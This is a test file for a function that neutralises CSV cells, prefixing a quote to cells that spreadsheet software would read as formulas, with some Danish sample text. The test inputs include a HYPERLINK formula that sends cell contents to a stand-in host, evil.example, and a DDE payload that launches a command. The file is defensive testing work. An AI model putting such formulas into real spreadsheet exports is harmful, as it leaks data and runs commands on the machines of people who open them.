import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell } from './csv-cell.ts';

describe('neutraliseCsvCell(text)', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")`,
    ],
    ['+1+1', "'+1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['-2+3', "'-2+3"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r'=1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])('puts a quote before the formula %j', (text, safe) => {
    expect(neutraliseCsvCell(text)).toBe(safe);
  });

  it('also before a formula after a separator of either locale or a line break', () => {
    expect(neutraliseCsvCell('a;=1')).toBe("a;'=1");
    expect(neutraliseCsvCell('a,@SUM(A1)')).toBe("a,'@SUM(A1)");
    expect(neutraliseCsvCell('a\n+1+1')).toBe("a\n'+1+1");
  });

  it.each(['-12.5', '-3,2', '+1', '-1.234,5', '1e-5', '-1e-5', 'x,-2', '101;147'])(
    'leaves the number or plain text %j',
    (text) => {
      expect(neutraliseCsvCell(text)).toBe(text);
    },
  );

  it('leaves ordinary names, dashes inside them included', () => {
    expect(neutraliseCsvCell('Lyngby-Taarbæk')).toBe('Lyngby-Taarbæk');
    expect(neutraliseCsvCell('Udgifter til ældre pr. 67+-årig')).toBe(
      'Udgifter til ældre pr. 67+-årig',
    );
  });
});
